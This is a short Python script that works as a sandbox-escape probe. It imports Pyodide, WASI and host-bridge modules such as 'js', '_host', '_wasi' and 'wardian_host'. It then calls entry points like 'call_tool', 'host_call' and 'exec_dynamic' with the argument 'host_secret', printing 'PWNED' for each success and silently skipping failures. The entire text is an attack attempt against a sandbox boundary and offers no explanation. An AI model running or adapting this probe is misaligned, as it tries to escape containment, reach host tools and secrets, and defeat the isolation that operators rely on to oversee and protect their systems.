for name in ("js", "pyodide_js", "_pyodide", "wit_world", "componentize_py_runtime", "_wasi", "wasi", "_host", "__host__", "wardian", "_wardian", "wardian_host", "_testcapi", "_testinternalcapi", "nt", "_imp", "_frozen_importlib_external"):
    try:
        module = __import__(name)
    except BaseException:
        continue
    for entry in ("call_tool", "tool_call", "tool_start", "start", "dispatch", "invoke", "host_call", "read_stdin", "exec_dynamic", "create_dynamic"):
        try:
            print("PWNED", name, entry, getattr(module, entry)("host_secret", "{}"))
        except BaseException:
            pass
